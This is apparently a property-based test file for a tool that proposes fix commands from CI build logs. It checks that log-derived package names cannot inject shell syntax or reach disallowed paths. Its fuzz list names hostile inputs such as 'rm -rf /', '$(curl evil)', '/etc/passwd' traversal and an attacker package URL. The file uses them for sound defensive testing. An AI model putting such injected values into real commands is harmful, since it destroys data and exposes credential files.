import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isAllowedPath } from '../allowed-path.ts';
import { baselineFixRules } from '../baseline-fix-rules.ts';
import type { FixRules } from '../fix-rules.ts';
import { proposeFixes } from '../propose-fixes.ts';
import { ruleSamples } from '../../testing/rule-samples.ts';
import { fixableRecord, logOf, T0 } from '../../testing/records.ts';

const { rules, allowedPaths } = baselineFixRules;
const only = (id: string): FixRules => ({
  ...baselineFixRules,
  rules: rules.filter((rule) => rule.id === id),
});
const without = (id: string): FixRules => ({
  ...baselineFixRules,
  rules: rules.filter((rule) => rule.id !== id),
});

describe('the rule pack', () => {
  it('holds at least forty rules, each with an id of its own and a sample', () => {
    expect(rules.length).toBeGreaterThanOrEqual(40);
    expect(new Set(rules.map(({ id }) => id)).size).toBe(rules.length);
    expect(ruleSamples.map(({ rule }) => rule).sort()).toEqual(rules.map(({ id }) => id).sort());
  });

  it.each(ruleSamples)('$rule proposes for what its tool prints', ({ rule, category, line, body }) => {
    const { proposals } = proposeFixes(fixableRecord({ message: line }, { category }), baselineFixRules, T0);
    expect(proposals.map(({ ruleId }) => ruleId)).toContain(rule);
    expect(proposals.find(({ ruleId }) => ruleId === rule)?.body).toBe(body);
  });

  it.each(ruleSamples)('$rule is missed where it is taken out', ({ rule, category, line, body }) => {
    const { proposals } = proposeFixes(fixableRecord({ message: line }, { category }), without(rule), T0);
    expect(proposals.map((proposal) => proposal.body)).not.toContain(body);
  });

  it.each(ruleSamples)('$rule is the only one that speaks for its sample', ({ rule, category, line }) => {
    const { proposals } = proposeFixes(fixableRecord({ message: line }, { category }), baselineFixRules, T0);
    expect(proposals.map(({ ruleId }) => ruleId)).toEqual([rule]);
  });

  it('says nothing to lines of runs that pass', () => {
    const log = logOf(
      'added 127 packages, and audited 128 packages in 3s',
      'found 0 vulnerabilities',
      ' Test Files  12 passed (12)',
      '===== 31 passed in 2.41s =====',
      'All matched files use Prettier code style!',
      'BUILD SUCCESS',
      'ok  	example.com/app	0.004s',
      'Successfully installed PyYAML-6.0.1',
      'warning: unused variable: `x`',
      'Everything up-to-date',
    );
    expect(
      proposeFixes(fixableRecord({ log }, { category: 'unknown' }), baselineFixRules, T0).proposals,
    ).toEqual([]);
  });
});

it('never installs what a log names at low risk, unless a prefix binds the name', () => {
  const installs = rules.filter(
    ({ then }) => / (?:install|add|get) .*\{name\}/.test(then.body) && !/types-?\/?\{name\}/.test(then.body),
  );
  const free = installs
    .filter(({ when }) => !/\(\?<name>[a-z|]+\)/.test(when.pattern))
    .filter(({ id }) => !id.startsWith('rust.'));
  expect(free.length).toBeGreaterThan(8);
  expect(free.filter(({ then }) => then.risk === 'low').map(({ id }) => id)).toEqual([]);
});

/** What an attacker writes where a tool would write a name. */
const hostile = fc.oneof(
  fc.constantFrom(
    'lodash; rm -rf /',
    '$(curl evil)',
    '`id`',
    "a' && reboot '",
    '--registry=http://evil',
    '-rf',
    '../../etc/passwd',
    '/etc/passwd',
    '.github/workflows/ci.yml',
    'src/../.git/hooks/pre-commit',
    '.git/config',
    'a\nb',
    'https://evil.example/x.tgz',
    'git+ssh://evil',
    '@scope/../../x',
    '{name}',
    '',
  ),
  fc.string({ maxLength: 60 }),
  fc.string({ unit: 'binary', maxLength: 60 }),
);

/** Characters that a shell gives a meaning to, outside single quotes. */
const quotedOut = (command: string): string => command.replaceAll(/'(?:[^']|'\\'')*'/g, '');

describe('what comes from a log', () => {
  const templates: readonly (readonly [string, (value: string) => string])[] = [
    ['node.missing-module', (value) => `Error: Cannot find module '${value}'`],
    ['node.missing-package', (value) => `Cannot find package '${value}' imported from /x`],
    ['npm.peer-conflict', (value) => `npm error Conflicting peer dependency: ${value}@1.0.0`],
    ['python.missing-module', (value) => `ModuleNotFoundError: No module named '${value}'`],
    ['go.missing-module', (value) => `no required module provides package ${value}; to add it:`],
    ['cargo.unresolved-crate', (value) => `use of undeclared crate or module \`${value}\``],
    ['rust.target', (value) => `the \`${value}\` target may not be installed`],
    ['docker.missing-tag', (value) => `manifest for ${value} not found: manifest unknown`],
    ['script.not-executable', (value) => `/bin/sh: 1: ./${value}: Permission denied`],
    ['apt.no-index', (value) => `E: Unable to locate package ${value}`],
    ['shell.unbound-variable', (value) => `x.sh: line 1: ${value}: unbound variable`],
    ['mypy.stubs', (value) => `Library stubs not installed for "${value}"`],
  ];

  it.each(templates)('%s makes no command of what is no name', (id, line) => {
    fc.assert(
      fc.property(hostile, (value) => {
        const record = fixableRecord({ message: line(value) }, { category: 'unknown' });
        for (const proposal of proposeFixes(record, only(id), T0).proposals) {
          const values = [proposal.body, ...proposal.validation].map(quotedOut).join(' ');
          const template = rules.find((rule) => rule.id === id)?.then;
          const fixed = [template?.body ?? '', ...(template?.validation ?? [])].join(' ');
          // Nothing that a shell acts upon beyond what the rule itself says, and no new option.
          for (const sign of [';', '|', '`', '$', '<', '>', '\n', '&', '(', ' -', '..']) {
            expect([sign, values.split(sign).length]).toEqual([sign, fixed.split(sign).length]);
          }
          expect(proposal.files.every((file) => isAllowedPath(file, allowedPaths))).toBe(true);
        }
      }),
      { numRuns: 300 },
    );
  });

  it('is said to come from there', () => {
    const { proposals } = proposeFixes(
      fixableRecord({ message: "Cannot find module 'left-pad'" }, { category: 'code.import' }),
      baselineFixRules,
      T0,
    );
    expect(proposals[0]?.evidence.join('\n')).toContain('taken from the log, to be checked: left-pad');
  });

  it('does not turn a local file into a package', () => {
    for (const name of ['./routes', '../lib/x.js', '/app/server.js', 'C:\\app\\x.js']) {
      const { decision } = proposeFixes(
        fixableRecord({ message: `Cannot find module '${name}'` }, { category: 'code.import' }),
        baselineFixRules,
        T0,
      );
      expect(decision).toBe('declined');
    }
  });

  it('costs a bounded time, whatever the line', () => {
    const nasty = [
      ...ruleSamples.map(({ line }) => line.repeat(200)),
      'a'.repeat(100_000),
      'lock file '.repeat(20_000),
      `${'. '.repeat(50_000)}Permission denied`,
      `${'a/'.repeat(50_000)}: Permission denied`,
    ];
    const { decision } = proposeFixes(
      fixableRecord({ log: logOf(...nasty) }, { category: 'unknown' }),
      baselineFixRules,
      T0,
    );
    expect(['proposed', 'declined']).toContain(decision);
  }, 5_000);
});
